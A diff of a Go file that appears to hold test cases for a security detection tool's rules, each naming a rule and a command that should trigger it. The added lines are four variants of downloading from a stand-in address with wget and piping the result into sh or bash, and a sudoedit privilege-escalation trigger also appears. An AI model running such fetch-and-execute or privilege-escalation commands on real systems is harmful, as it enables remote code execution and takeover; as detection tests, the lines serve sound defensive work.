@@ -70,7 +70,10 @@ var ownDeeds = []deed{
 	{"Package manager run in a container", inContainer, "as apk add nmap"},
 	{"Program made executable in a container", inContainer, "create /tmp/$NAME | as chmod | chmod 755 /tmp/$NAME"},
 
-	{"Download piped into a shell", outside, "run sh -c '(busybox sleep 1;wget -T 1 -t 1 -qO- http://192.0.2.9/)|sh'"},
+	{"Download piped into a shell", outside, "run sh -c 'wget -T 1 -t 1 -qO- http://192.0.2.9/|sh'"},
+	{"Download piped into a shell", outside, "run sh -c 'wget -T 1 -t 1 -qO- http://192.0.2.9/|cat|sh'"},
+	{"Download piped into a shell", outside, "try bash -c 'bash -c \"$(wget -T 1 -t 1 -qO- http://192.0.2.9/;seq 2)\"'"},
+	{"Download piped into a shell", outside, "run bash -c 'bash <(wget -T 1 -t 1 -qO- http://192.0.2.9/)'"},
 
 	// logins.yaml
 	{"Attack on pkexec or sudoedit", anywhere, `as sudoedit -s \`},
